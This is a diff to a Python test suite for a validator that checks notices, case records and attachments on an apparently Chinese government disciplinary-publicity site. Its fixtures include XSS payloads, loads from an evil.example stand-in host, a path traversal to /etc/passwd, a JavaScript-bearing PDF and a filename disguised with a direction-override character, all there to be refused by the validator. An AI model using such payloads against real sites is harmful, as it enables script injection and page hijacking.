@@ -80,7 +80,8 @@ t = case + 'withdrawn:\n  date: 2026-05-01\n  reason: 事实有误\n'
 d('case-withdrawn-before-published', {C: t}, [(N, 5, 'notice-cites-withdrawn-case'), (C, 20, 'date-order')])
 t = case + 'withdrawn:\n  date: 2026-06-01\n'
 d('case-withdrawn-without-reason', {C: t}, [(N, 5, 'notice-cites-withdrawn-case'), (C, 20, 'missing-field')])
-d('case-duplicate-id', {'data/cases/2026-001-copy.yml': case}, [(C, 1, 'duplicate-id')])
+# the copy, not named after its id, is the file named (whichever sorts first)
+d('case-duplicate-id', {'data/cases/2026-001-copy.yml': case}, [('data/cases/2026-001-copy.yml', 1, 'duplicate-id'), ('data/cases/2026-001-copy.yml', 1, 'file-name-not-id')])
 t = rep(case, 'id: 2026-001', 'id: 2026/001')
 d('case-bad-id', {C: t}, [(C, 1, 'bad-id')])
 t = rep(rep(case, 'kind: 通报曝光', 'kind: 澄清正名'), 'title:', 'title:')
@@ -254,20 +255,20 @@ d('site-config-missing', {}, [(SP, 0, 'missing-file')], remove=[SP])
 t = notice.replace('---\ntitle', 'title', 1).replace('signed_on: 2026-05-09\n---\n', 'signed_on: 2026-05-09\n')
 d('notice-without-front-matter', {N: t}, [(N, 1, 'missing-field')])
 t = notice + '\n<script>alert(1)</script>\n'
-d('notice-script-tag', {N: t}, [(N, 12, 'unsafe-markup')])
+d('notice-script-tag', {N: t}, [(N, 13, 'unsafe-markup')])
 t = notice + '\n[详情](javascript:alert(1))\n'
-d('notice-javascript-link', {N: t}, [(N, 12, 'unsafe-markup')])
+d('notice-javascript-link', {N: t}, [(N, 13, 'unsafe-markup')])
 t = notice + '\n<img src="x.png" onerror="alert(1)">\n'
-d('notice-event-handler', {N: t}, [(N, 12, 'unsafe-markup')])
+d('notice-event-handler', {N: t}, [(N, 13, 'unsafe-markup')])
 t = notice + '\n<iframe src="https://evil.example/"></iframe>\n'
-d('notice-iframe', {N: t}, [(N, 12, 'unlisted-host'), (N, 12, 'unsafe-markup')])
+d('notice-iframe', {N: t}, [(N, 13, 'unlisted-host'), (N, 13, 'unsafe-markup')])
 t = rep(notice, 'category: 通报', 'category: 通告')
 d('notice-bad-category', {N: t}, [(N, 4, 'unknown-reference')])
 t = rep(notice, 'cases: [2026-001]', 'cases: [2026-099]')
 d('notice-unknown-case', {N: t}, [(N, 5, 'unknown-reference')])
-d('notice-bad-file-name', {'content/notices/五月通报.md': notice}, [('content/notices/五月通报.md', 2, 'bad-id')])
+d('notice-bad-file-name', {'content/notices/五月通报.md': notice}, [('content/notices/五月通报.md', 1, 'bad-id')], remove=(N,))
 t = notice + '\n如有疑问请联系 13912345678。\n'
-d('notice-mobile-in-body', {N: t}, [(N, 12, 'personal-phone')])
+d('notice-mobile-in-body', {N: t}, [(N, 13, 'personal-phone')])
 
 t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-05-10\nembargo: "2026-12-01 09:00"')
 d('notice-cites-embargoed-case', {C: t}, [(N, 5, 'notice-before-case')])
@@ -283,9 +284,30 @@ t = rep(notice, 'doc_number: 演纪发〔2026〕7号\n', '')
 d('notice-official-without-doc-number', {N: t}, [(N, 4, 'notice-field-required')])
 t = rep(rep(notice, 'doc_number: 演纪发〔2026〕7号\n', ''), 'signed_on: 2026-05-09\n', 'draft: 是\n')
 d('notice-draft-may-lack-doc-number', {N: t}, [])
-t = rep(notice, 'category: 通报', 'category: 工作动态')
+t = rep(rep(notice, 'category: 通报', 'category: 工作动态'), '问题的通报', '问题查处情况')
 t = rep(rep(t, 'doc_number: 演纪发〔2026〕7号\n', ''), 'signed_on: 2026-05-09\n', '')
 d('notice-news-needs-no-doc-number', {N: t}, [])
+# Only a numbered notice of an official category may read as a 通报 or 决定.
+news = rep(rep(t, 'category: 工作动态', 'category: 工作动态'), '问题查处情况', '问题的通报')
+d('notice-news-titled-as-a-tongbao', {N: news}, [(N, 2, 'notice-reads-as-official')])
+t = rep(t, '现将东城镇办事员张某某推诿扯皮问题通报如下。', '近日查处了东城镇推诿扯皮问题。\n\n决定对张某某予以通报批评。特此通报。')
+d('notice-news-body-reads-as-a-tongbao', {N: t}, [(N, 11, 'notice-reads-as-official')])
+t = rep(rep(notice, 'category: 通报', 'category: 公告'), '关于东城镇推诿扯皮问题的通报', '关于给予张某某党内警告处分的决定')
+t = rep(t, 'doc_number: 演纪发〔2026〕7号\n', '')
+d('notice-announcement-titled-a-decision-without-doc-number', {N: t}, [(N, 2, 'notice-reads-as-official')])
+d('notice-announcement-decision-with-doc-number', {N: rep(t, 'to:', 'doc_number: 演纪发〔2026〕7号\nto:')}, [])
+t = rep(notice, 'to: 东城镇党委、政府\n', '')
+d('notice-official-without-addressee', {N: t}, [(N, 4, 'notice-field-required')])
+t = notice[:notice.index('---\n\n') + 4]
+d('notice-official-without-body', {N: t}, [(N, 4, 'notice-body-required')])
+d('notice-official-body-only-blank-lines', {N: t + '\n\n　\n'}, [(N, 4, 'notice-body-required')])
+# 主送 and 抄送 carry no punctuation of their own: it would be doubled (a note, not an error).
+t = rep(notice, '东城镇党委、政府\n', '东城镇党委、政府：\ncc: [县委办公室。, 县人民政府办公室。]\n')
+d('notice-addressee-and-cc-with-punctuation', {N: t}, [(N, 7, 'notice-punctuation-removed'), (N, 8, 'notice-punctuation-removed')])
+# A 发文字号 is issued once: the second file is refused, naming the first.
+N2 = 'content/notices/2026-06-notice.md'
+t = rep(rep(notice, 'date: 2026-05-10', 'date: 2026-06-01'), 'signed_on: 2026-05-09', 'signed_on: 2026-06-01')
+d('notice-doc-number-used-twice', {N2: rep(t, '推诿扯皮问题的通报', '推诿扯皮问题整改情况的通报')}, [(N2, 6, 'duplicate-doc-number')])
 t = rep(notice, 'category: 通报', 'category: bulletins')
 d('notice-category-by-slug', {N: t}, [])
 t = rep(notice, 'date: 2026-05-10', 'date: 2026-12-01')
@@ -295,13 +317,13 @@ d('notice-future-date-with-embargo-is-scheduled', {N: t}, [])
 t = rep(notice, 'signed_on: 2026-05-09', 'signed_on: 2026-05-11')
 d('notice-signed-after-published', {N: t}, [(N, 3, 'date-order')])
 t = notice.replace('---\n\n', 'withdrawn:\n  date: 2026-05-01\n  reason: 名单有误\n---\n\n', 1)
-d('notice-withdrawn-before-published', {N: t}, [(N, 9, 'date-order')])
+d('notice-withdrawn-before-published', {N: t}, [(N, 10, 'date-order')])
 t = notice.replace('---\n\n', 'withdrawn:\n  date: 2026-06-01\n---\n\n', 1)
-d('notice-withdrawn-without-reason', {N: t}, [(N, 9, 'missing-field')])
+d('notice-withdrawn-without-reason', {N: t}, [(N, 10, 'missing-field')])
 t = notice.replace('---\n\n', 'corrections:\n  - date: 2026-05-01\n    text: 更正单位名称\n---\n\n', 1)
-d('notice-correction-before-published', {N: t}, [(N, 9, 'date-order')])
+d('notice-correction-before-published', {N: t}, [(N, 10, 'date-order')])
 t = notice.replace('---\n\n', 'attachments:\n  - file: 名单.xlsx\n    title: 名单\n---\n\n', 1)
-d('notice-attachment-missing', {N: t}, [(N, 9, 'attachment-missing')])
+d('notice-attachment-missing', {N: t}, [(N, 10, 'attachment-missing')])
 d('notice-attachment-present', {N: t, 'content/notices/files/名单.xlsx': (REPO / 'content/notices/files/2026-c1-late-units.xlsx').read_bytes()}, [])
 # A PDF with a page and no text: what a scanner makes of a paper document.
 def _blank_pdf():
@@ -314,33 +336,33 @@ def _blank_pdf():
     return out.getvalue()
 BLANK_PDF = _blank_pdf()
 t = notice.replace('---\n\n', 'attachments:\n  - file: 扫描件.pdf\n    title: 原件扫描\n---\n\n', 1)
-d('notice-attachment-scanned-image', {N: t, 'content/notices/files/扫描件.pdf': BLANK_PDF}, [(N, 9, 'attachment-unscannable')])
+d('notice-attachment-scanned-image', {N: t, 'content/notices/files/扫描件.pdf': BLANK_PDF}, [(N, 10, 'attachment-unscannable')])
 t = rep(t, '    title: 原件扫描\n', '    title: 原件扫描\n    reviewed: 是\n')
 d('notice-attachment-scanned-image-reviewed', {N: t, 'content/notices/files/扫描件.pdf': BLANK_PDF}, [])
 t = notice.replace('---\n\n', 'attachments:\n  - file: ../../data/units.csv\n    title: 名单\n  - file: 名单.exe\n    title: 程序\n'
                    '  - file: "a](javascript:alert(1)).pdf"\n    title: 链接\n  - file: /etc/名单.pdf\n    title: 绝对路径\n---\n\n', 1)
-d('notice-attachment-bad-path', {N: t}, [(N, 9, 'attachment-bad-path'), (N, 11, 'attachment-bad-path'),
-                                         (N, 13, 'attachment-bad-path'), (N, 15, 'attachment-bad-path')])
+d('notice-attachment-bad-path', {N: t}, [(N, 10, 'attachment-bad-path'), (N, 12, 'attachment-bad-path'),
+                                         (N, 14, 'attachment-bad-path'), (N, 16, 'attachment-bad-path')])
 t = notice.replace('---\n\n', 'attachments:\n  - title: 名单\n---\n\n', 1)
-d('notice-attachment-without-file', {N: t}, [(N, 9, 'missing-field')])
+d('notice-attachment-without-file', {N: t}, [(N, 10, 'missing-field')])
 LISTING = ('listing:\n  subject: 承诺书报送情况\n  commitment: C1\n  as_of: 2026-04-07\n  rows:\n'
            '    - unit: XW01\n      unit_name: 县委办公室\n      status: 未报送\n      days_late: 18\n'
            '      measure: 限期补报\n---\n\n')
 t = notice.replace('---\n\n', LISTING, 1)
 d('notice-listing-is-valid', {N: t}, [])
-d('notice-listing-unknown-unit', {N: rep(t, 'unit: XW01', 'unit: XW99')}, [(N, 13, 'unknown-reference')])
-d('notice-listing-bad-status', {N: rep(t, 'status: 未报送', 'status: 没报')}, [(N, 15, 'bad-enum')])
-d('notice-listing-after-notice-date', {N: rep(t, 'as_of: 2026-04-07', 'as_of: 2026-05-12')}, [(N, 11, 'date-order')])
-d('notice-listing-without-rows', {N: rep(t, '  rows:\n    - unit: XW01\n      unit_name: 县委办公室\n      status: 未报送\n      days_late: 18\n      measure: 限期补报\n', '')}, [(N, 9, 'missing-field')])
+d('notice-listing-unknown-unit', {N: rep(t, 'unit: XW01', 'unit: XW99')}, [(N, 14, 'unknown-reference')])
+d('notice-listing-bad-status', {N: rep(t, 'status: 未报送', 'status: 没报')}, [(N, 16, 'bad-enum')])
+d('notice-listing-after-notice-date', {N: rep(t, 'as_of: 2026-04-07', 'as_of: 2026-05-12')}, [(N, 12, 'date-order')])
+d('notice-listing-without-rows', {N: rep(t, '  rows:\n    - unit: XW01\n      unit_name: 县委办公室\n      status: 未报送\n      days_late: 18\n      measure: 限期补报\n', '')}, [(N, 10, 'missing-field')])
 
 # ---- cross-record consistency: reported at the notice's line
 t = case + 'withdrawn:\n  date: 2026-06-01\n  reason: 事实有误\n'
 d('notice-cites-withdrawn-case', {C: t}, [(N, 5, 'notice-cites-withdrawn-case')])
 body_link = notice + '\n详见[典型案例](../cases/2026-001.md)。\n'
 nolist = rep(body_link, 'cases: [2026-001]\n', '')
-d('notice-body-links-withdrawn-case', {C: t, N: nolist}, [(N, 11, 'notice-cites-withdrawn-case')])
+d('notice-body-links-withdrawn-case', {C: t, N: nolist}, [(N, 12, 'notice-cites-withdrawn-case')])
 t = rep(case, 'outcome: 责令整改。', 'outcome: 责令整改。\ndraft: 是')
-d('notice-body-links-draft-case', {C: t, N: nolist}, [(N, 11, 'notice-before-case')])
+d('notice-body-links-draft-case', {C: t, N: nolist}, [(N, 12, 'notice-before-case')])
 
 # ---- units in time, exemptions (免报)
 E = 'data/exemptions.csv'
@@ -378,8 +400,8 @@ d('ledger-close-date-on-open-item', {L: t}, [(L, 3, 'date-without-closed')])
 # ---- notice categories in the taxonomy
 t = rep(tax, '{name: 公告, slug: announcements', '{name: 公告, slug: bulletins')
 d('taxonomy-duplicate-notice-category-slug', {TP: t}, [(TP, line_of(t, '{name: 公告, slug: bulletins'), 'duplicate-id')])
-t = rep(tax, 'requires: [doc_number, signed_on]', 'requires: [doc_number, 文号]')
-d('taxonomy-notice-category-unknown-requirement', {TP: t}, [(TP, line_of(t, '文号]'), 'bad-enum')])
+t = rep(tax, 'requires: [doc_number, signed_on, to, body]', 'requires: [doc_number, 文号, to, body]')
+d('taxonomy-notice-category-unknown-requirement', {TP: t}, [(TP, line_of(t, '文号, to'), 'bad-enum')])
 
 # ---- privacy rules
 t = rep(case, '    measures: [诫勉谈话]', '    measures: [诫勉谈话]\n  - name: 李某某\n    position: 股长\n    redacted: 是')
@@ -485,10 +507,10 @@ t = rep(case, 'id: 2026-001', 'id: category')
 d('case-id-is-a-listing-folder', {C: t}, [(C, 1, 'reserved-id')])
 t = units + 'KIND-XZ,西河乡,乡镇,县委办公室,否,否,否\n'
 d('csv-unit-id-kind-prefix', {U: t}, [(U, 6, 'reserved-id')])
-d('notice-file-named-index', {'content/notices/INDEX.md': notice}, [('content/notices/INDEX.md', 2, 'reserved-id')])
+d('notice-file-named-index', {'content/notices/INDEX.md': notice}, [('content/notices/INDEX.md', 2, 'reserved-id')], remove=(N,))
 d('case-id-differs-only-in-case', {'data/cases/2026-001b.yml': rep(case2, 'id: 2026-002', 'id: 2026-001B'),
                                    'data/cases/2026-001c.yml': rep(case2, 'id: 2026-002', 'id: 2026-001b')},
-  [('data/cases/2026-001c.yml', 1, 'duplicate-id-case')])
+  [('data/cases/2026-001c.yml', 1, 'duplicate-id-case'), ('data/cases/2026-001c.yml', 1, 'file-name-not-id')])
 t = rep(tax, '{id: A2, name: 履行职责不担当', '{id: a1, name: 履行职责不担当')
 d('taxonomy-category-id-differs-only-in-case', {TP: t}, [(TP, line_of(t, '{id: a1, name: 履行职责不担当'), 'duplicate-id-case')])
 
@@ -506,7 +528,7 @@ d('yaml-esc-byte-in-value', {C: t}, [(C, 15, 'control-character')])
 t = rep(case, 'outcome: 责令整改。', 'outcome: 责令\x00整改。')
 d('yaml-nul-byte-in-value', {C: t}, [(C, 15, 'control-character')])
 t = notice + '\n第二段\x07提醒。\n'
-d('notice-bell-in-body', {N: t}, [(N, 12, 'control-character')])
+d('notice-bell-in-body', {N: t}, [(N, 13, 'control-character')])
 t = rep(ledger, '审批时限长', '审批时限\x00长')
 d('csv-nul-byte-in-cell', {L: t}, [(L, 3, 'control-character')])
 
@@ -617,7 +639,7 @@ d('yaml-missing-colon', {C: t}, [(C, 7, 'yaml-missing-colon')])
 t = rep(case, 'outcome: 责令整改。', 'outcome: "D:\\台账\\2026"')
 d('yaml-backslash-in-double-quotes', {C: t}, [(C, 15, 'yaml-bad-escape')])
 t = rep(notice, 'signed_on: 2026-05-09\n---\n', 'signed_on: 2026-05-09\n')
-d('notice-front-matter-not-closed', {N: t}, [(N, 8, 'front-matter-unclosed')])
+d('notice-front-matter-not-closed', {N: t}, [(N, 9, 'front-matter-unclosed')])
 
 
 # ---- check finds what the build would refuse
@@ -629,7 +651,7 @@ t = rep(labels, 'feeds:\n', 'feedz:\n')
 d('labels-section-misspelt', {LP: t}, [(LP, 1, 'missing-label')])
 
 t = notice + '\n详见[案例](../cases/2026-099.md)、[台账](/ledger/)和[举报渠道](../report.md)。\n'
-d('notice-link-to-no-page', {N: t}, [(N, 12, 'broken-link'), (N, 12, 'broken-link')])
+d('notice-link-to-no-page', {N: t}, [(N, 13, 'broken-link'), (N, 13, 'broken-link')])
 
 t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: [重要]东城镇办事员张某某推诿扯皮问题')
 d('yaml-title-starting-with-bracket', {C: t}, [(C, 3, 'yaml-quote-needed')])
@@ -647,22 +669,23 @@ d('yaml-no-space-after-colon', {C: t}, [(C, 7, 'yaml-missing-colon')])
 def nb(payload):
     """The minimal notice with a payload as its body's line 12."""
     return notice + '\n' + payload + '\n'
-d('notice-comment-closed-by-bang-gt', {N: nb('<!--><img src="x"/onerror=alert(1)>-->')}, [(N, 12, 'unsafe-markup')])
-d('notice-comment-closed-by-dash-gt', {N: nb('<!---><svg/onload=alert(1)>-->')}, [(N, 12, 'unsafe-markup')])
-d('notice-cdata-is-a-bogus-comment', {N: nb('<![CDATA[ ><img src=x/onerror=alert(1)> ]]>')}, [(N, 12, 'unsafe-markup')])
-d('notice-svg-cdata-hides-img', {N: nb('<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>')}, [(N, 12, 'unsafe-markup')])
-d('notice-tab-entity-in-javascript-href', {N: nb('<a href="jav&#9;ascript:alert(1)">点击</a>')}, [(N, 12, 'unsafe-markup')])
-d('notice-comment-over-three-lines', {N: nb('<!--\n<img src=x onerror=alert(1)>\n-->')}, [(N, 12, 'unsafe-markup')])
-d('notice-comment-over-three-lines-alone', {N: nb('<!--\n草稿说明\n-->')}, [(N, 12, 'unsafe-markup')])
-d('notice-style-import', {N: nb('<style>@import "https://evil.example/x.css";</style>')}, [(N, 12, 'unsafe-markup')])
-d('notice-details-ontoggle-uppercase', {N: nb('<DETAILS OPEN ONTOGGLE=alert(1)>x</DETAILS>')}, [(N, 12, 'unsafe-markup')])
+d('notice-comment-closed-by-bang-gt', {N: nb('<!--><img src="x"/onerror=alert(1)>-->')}, [(N, 13, 'unsafe-markup')])
+d('notice-comment-closed-by-dash-gt', {N: nb('<!---><svg/onload=alert(1)>-->')}, [(N, 13, 'unsafe-markup')])
+d('notice-cdata-is-a-bogus-comment', {N: nb('<![CDATA[ ><img src=x/onerror=alert(1)> ]]>')}, [(N, 13, 'unsafe-markup')])
+d('notice-svg-cdata-hides-img', {N: nb('<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>')}, [(N, 13, 'unsafe-markup')])
+d('notice-tab-entity-in-javascript-href', {N: nb('<a href="jav&#9;ascript:alert(1)">点击</a>')}, [(N, 13, 'unsafe-markup')])
+d('notice-comment-over-three-lines', {N: nb('<!--\n<img src=x onerror=alert(1)>\n-->')}, [(N, 13, 'unsafe-markup')])
+d('notice-comment-over-three-lines-alone', {N: nb('<!--\n草稿说明\n-->')}, [(N, 13, 'unsafe-markup')])
+d('notice-style-import', {N: nb('<style>@import "https://evil.example/x.css";</style>')}, [(N, 13, 'unsafe-markup')])
+d('notice-details-ontoggle-uppercase', {N: nb('<DETAILS OPEN ONTOGGLE=alert(1)>x</DETAILS>')}, [(N, 13, 'unsafe-markup')])
 
 # ---- issue 11: third-party loads, hosts read by the WHATWG URL rules
-d('notice-backslash-path-is-another-host', {N: nb('<img src="/\\evil.example/t.png" alt="图">')}, [(N, 12, 'unlisted-host'), (N, 12, 'unsafe-markup')])
-d('notice-poster-loads-from-another-host', {N: nb('<video poster="https://evil.example/p.png"></video>')}, [(N, 12, 'unlisted-host'), (N, 12, 'unsafe-markup')])
-d('notice-srcset-loads-from-another-host', {N: nb('<img src="a.png" srcset="https://evil.example/a.png 2x" alt="图">')}, [(N, 12, 'unlisted-host'), (N, 12, 'unsafe-markup')])
-d('notice-http-without-slashes', {N: nb('[链接](http:evil.example/x)')}, [(N, 12, 'unlisted-host'), (N, 12, 'unsafe-markup')])
-d('notice-backslash-before-at-sign', {N: nb('[链接](https://evil.example\\@example.gov.cn/)')}, [(N, 12, 'unlisted-host'), (N, 12, 'unsafe-markup')])
+d('notice-backslash-path-is-another-host', {N: nb('<img src="/\\evil.example/t.png" alt="图">')}, [(N, 13, 'unlisted-host'), (N, 13, 'unsafe-markup')])
+d('notice-poster-loads-from-another-host', {N: nb('<video poster="https://evil.example/p.png"></video>')}, [(N, 13, 'unlisted-host'), (N, 13, 'unsafe-markup')])
+d('notice-srcset-loads-from-another-host', {N: nb('<img src="a.png" srcset="https://evil.example/a.png 2x" alt="图">')}, [(N, 13, 'unlisted-host'), (N, 13, 'unsafe-markup')])
+# a link to another host is unlisted-host alone: the host rule is not the sanitiser's
+d('notice-http-without-slashes', {N: nb('[链接](http:evil.example/x)')}, [(N, 13, 'unlisted-host')])
+d('notice-backslash-before-at-sign', {N: nb('[链接](https://evil.example\\@example.gov.cn/)')}, [(N, 13, 'unlisted-host')])
 t = rep(subs, 'https://example.gov.cn/c1', 'https://evil.example\\@example.gov.cn/c1')
 d('submission-backslash-before-at-sign', {S: t}, [(S, 3, 'bad-url')])
 
@@ -698,14 +721,74 @@ d('pd-mobile-soft-hyphens', {C: facts('手机 138\u00ad1234\u00ad5678')}, [(C, 1
 d('pd-mobile-left-to-right-mark', {C: facts('手机 138\u200e1234\u200e5678')}, [(C, 10, 'personal-phone')])
 d('pd-email-ideographic-full-stop', {C: facts('邮箱 wangwu@qq。com')}, [(C, 10, 'personal-email')])
 d('pd-email-fullwidth-at', {C: facts('邮箱 wangwu＠163．com')}, [(C, 10, 'personal-email')])
-d('notice-mailto-percent-encoded', {N: nb('[写信](mailto:wangwu%40qq.com)')}, [(N, 12, 'personal-email')])
-d('notice-tel-percent-encoded', {N: nb('[打电话](tel:%2B86%20139%202234%205678)')}, [(N, 12, 'personal-phone')])
+d('notice-mailto-percent-encoded', {N: nb('[写信](mailto:wangwu%40qq.com)')}, [(N, 13, 'personal-email')])
+d('notice-tel-percent-encoded', {N: nb('[打电话](tel:%2B86%20139%202234%205678)')}, [(N, 13, 'personal-phone')])
 t = rep(case, '    measures: [诫勉谈话]', '    measures: [诫勉谈话]\n  - name: 李某某\n    position: 股长\n    redacted: 是')
 d('pd-redacted-name-with-zero-width-space', {C: rep(t, 'outcome: 责令整改。', 'outcome: 责令整改，李\u200b某某作出检查。')}, [(C, 18, 'redacted-name-shown')])
 d('pd-redacted-name-padded-with-ideographic-spaces', {C: rep(t, 'outcome: 责令整改。', 'outcome: 责令整改，李\u3000某\u3000某作出检查。')}, [(C, 18, 'redacted-name-shown')])
-d('pd-redacted-name-in-notice-with-soft-hyphen', {C: t, N: nb('李\u00ad某某已作出检查。')}, [(N, 12, 'redacted-name-shown')])
+d('pd-redacted-name-in-notice-with-soft-hyphen', {C: t, N: nb('李\u00ad某某已作出检查。')}, [(N, 13, 'redacted-name-shown')])
 
 # ---- issue 11: files under content/ are read or refused
+# ---- a notice body as the engine converts it (mkdocs adds toc and fenced_code)
+d('notice-fenced-code-takes-the-theme-config-id', {N: nb('```{#__config}\n{"base": "https://evil.example/"}\n```')}, [(N, 13, 'unsafe-markup')])
+d('notice-heading-takes-a-theme-id', {N: nb('## 一、基本情况\n\n正文。\n\n## __drawer\n\n正文。')}, [(N, 17, 'unsafe-markup')])
+d('notice-entity-encoded-javascript-link', {N: nb('请看[说明](&#106;avascript:alert(1))。')}, [(N, 13, 'unsafe-markup')])
+d('notice-reference-link-over-two-lines', {N: nb('请看[说明][r]。\n\n[r]:\n  javascript:alert(1)')}, [(N, 15, 'unsafe-markup')])
+d('notice-backslash-before-code-span', {N: nb('\\`<img src=x onerror=alert(1)>`')}, [(N, 13, 'unsafe-markup')])
+d('notice-image-from-an-allowed-link-host', {N: nb('<img src="https://www.example.gov.cn/a.png" alt="图">\n\n![图](https://www.example.gov.cn/b.png)')}, [(N, 13, 'unsafe-markup'), (N, 15, 'unsafe-markup')])
+d('notice-details-left-open', {N: nb('<details><summary>展开</summary>\n\n说明。')}, [(N, 13, 'unclosed-markup')])
+d('notice-stray-closing-div', {N: nb('说明。\n\n</div>\n\n下文。')}, [(N, 15, 'stray-end-tag')])
+d('notice-inline-admonition-is-fine', {N: nb('!!! note inline "提示"\n    内容。')}, [])
+d('notice-link-to-an-allowed-host-is-fine', {N: nb('请看[主管部门网站](https://www.example.gov.cn/a)和<a href="https://zhuanxiang.example.gov.cn/cases/">原文</a>。')}, [])
+d('notice-entity-encoded-link-to-another-host', {N: nb('请看[说明](https&#58;//evil.example/a)。')}, [(N, 13, 'unlisted-host')])
+d('notice-reference-to-another-host-over-two-lines', {N: nb('请看[说明][r]。\n\n[r]:\n  https://evil.example/a')}, [(N, 15, 'unlisted-host')])
+t = rep(notice, 'signed_on: 2026-05-09\n', 'signed_on: 2026-05-09\ndraft:\n')
+d('notice-draft-left-empty', {N: t}, [(N, line_of(t, 'draft:'), 'control-field-empty')])
+t = rep(notice, 'signed_on: 2026-05-09\n', 'signed_on: 2026-05-09\ncorrections:\n  - date: 2026-11-30\n    text: 更正单位名称\n')
+d('notice-correction-in-future', {N: t}, [(N, line_of(t, '  - date: 2026-11-30'), 'date-in-future')])
+d('page-front-matter-names-a-template', {'content/guide.md': '---\ntitle: 工作指南\ntemplate: ../../../../../etc/passwd\nhide: [navigation]\n---\n\n# 工作指南\n\n正文。\n'}, [('content/guide.md', 3, 'page-front-matter-key'), ('content/guide.md', 4, 'page-front-matter-key')])
+
+t = rep(notice, 'date: 2026-05-10', 'date: 46152')
+d('notice-date-excel-serial', {N: t}, [(N, 3, 'serial-date-in-text')])
+
+# ---- early publication: what has not happened is not printed as done
+t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-12-10')
+d('case-published-in-future', {C: t}, [(C, 4, 'case-in-future'), (C, 17, 'date-order')])
+t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-12-10\nembargo: 2026-12-10 09:00')
+t = rep(t, '  - date: 2026-06-10', '  - date: 2026-12-10')
+d('case-in-future-with-embargo-is-scheduled', {C: t}, [(N, 5, 'notice-before-case'), (C, line_of(t, '  - date: 2026-12-10'), 'date-in-future')])
+t = rep(case, '  - date: 2026-06-10', '  - date: 2026-11-21')
+d('case-followup-in-future', {C: t}, [(C, line_of(t, '  - date: 2026-11-21'), 'date-in-future')])
+t = case + 'withdrawn:\n  date: 2026-12-30\n  reason: 经复核，事实有误。\n'
+d('case-withdrawn-in-future', {C: t}, [(N, 5, 'notice-cites-withdrawn-case'), (C, line_of(t, '  date: 2026-12-30'), 'date-in-future')])
+d('case-withdrawn-left-empty', {C: case + 'withdrawn:\n'}, [(C, case.count('\n') + 1, 'control-field-empty')])
+d('case-draft-null', {C: case + 'draft: null\n'}, [(C, case.count('\n') + 1, 'control-field-empty')])
+t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: 东城镇办事员张某某推诿扯皮问题\u202excod.exe')
+d('case-title-with-a-direction-override', {C: t}, [(C, 3, 'control-character')])
+t = units.rstrip('\n') + '\nXZ97,东\u00ad城镇,乡镇,县委办公室,是,否,否\nXZ98,东\u034f城镇,乡镇,县委办公室,是,否,否\nXZ99,东\u200e城镇,乡镇,县委办公室,是,否,否\n'
+d('csv-unit-name-differs-by-an-invisible-character', {U: t}, [(U, 6, 'duplicate-record'), (U, 7, 'duplicate-record'), (U, 8, 'duplicate-record')])
+
+# ---- labels keep their placeholders; the logo and favicon are files of the site
+t = rep(labels, '本阶段还剩 {left} 天。', '本阶段还剩 {days} 天。')
+d('labels-placeholder-renamed', {LB: t}, [(LB, line_of(t, '  phase_running:'), 'label-placeholders')])
+t = rep(labels, '本阶段还剩 {left} 天。', '本阶段还剩若干天。')
+d('labels-placeholder-deleted', {LB: t}, [(LB, line_of(t, '  phase_running:'), 'label-placeholders')])
+t = rep(labels, '本阶段还剩 {left} 天。', '本阶段还剩 ｛left｝ 天。')
+d('labels-placeholder-full-width-braces', {LB: t}, [(LB, line_of(t, '  phase_running:'), 'label-placeholders')])
+t = rep(labels, '  qr_alt: "{name}的二维码：{value}"', '  qr_alt: "{name}的二维码：{value"')
+d('labels-placeholder-unclosed-brace', {LB: t}, [(LB, line_of(t, '  qr_alt:'), 'label-placeholders')])
+t = rep(labels, '  qr_alt: "{name}的二维码：{value}"', '  qr_alt: "{name.__class__}的二维码：{value}"')
+d('labels-placeholder-attribute-lookup', {LB: t}, [(LB, line_of(t, '  qr_alt:'), 'label-placeholders')])
+t = rep(labels, '  phase_parallel: "同时进行：{names}。"', '  phase_parallel: [同时进行]')
+d('labels-list-for-text', {LB: t}, [(LB, line_of(t, '  phase_parallel:'), 'wrong-shape')])
+for name, old, new in [
+        ('site-logo-from-another-host', 'logo: assets/images/emblem.svg', 'logo: https://www.example.gov.cn/emblem.png'),
+        ('site-favicon-from-another-host', 'favicon: assets/images/favicon.svg', 'favicon: //stats.example.gov.cn/f.ico'),
+        ('site-logo-breaks-out-of-its-attribute', 'logo: assets/images/emblem.svg', 'logo: \'assets/images/emblem.svg" style="position:fixed;inset:0" data-x="\''),
+        ('site-logo-file-missing', 'logo: assets/images/emblem.svg', 'logo: assets/images/no-such-file.svg')]:
+    t = rep(site, old, new)
+    d(name, {SP: t}, [(SP, line_of(t, new.split(':')[0] + ':'), 'site-image-not-a-file')])
+
 import io, zipfile
 def xlsx(rows):
     from openpyxl import Workbook
@@ -713,13 +796,15 @@ def xlsx(rows):
     for row in rows:
         sheet.append(row)
     out = io.BytesIO(); book.save(out); return out.getvalue()
-def docx(paragraphs):
+def docx(paragraphs, parts=None):
     w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
     body = ''.join(f'<w:p><w:r><w:t>{p}</w:t></w:r></w:p>' for p in paragraphs)
     out = io.BytesIO()
     with zipfile.ZipFile(out, 'w') as z:
         z.writestr('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
         z.writestr('word/document.xml', f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>')
+        for name, part in (parts or {}).items():
+            z.writestr(name, part)
     return out.getvalue()
 def pdf(text):
     objs = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
@@ -738,6 +823,15 @@ d('file-xlsx-with-id-number', {F + '名单.xlsx': xlsx([['姓名', '证件号'],
 d('file-docx-with-mobile', {F + '说明.docx': docx(['联系人：张三', '手机 138 1234 5678'])}, [(F + '说明.docx', 2, 'personal-phone')])
 d('file-pdf-with-id-number', {F + 'scan.pdf': pdf('ID ' + ID1)}, [(F + 'scan.pdf', 1, 'personal-id-number')])
 d('file-pdf-with-javascript', {F + 'run.pdf': pdf('x').replace(b'/Type /Catalog', b'/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>')}, [(F + 'run.pdf', 1, 'file-refused')])
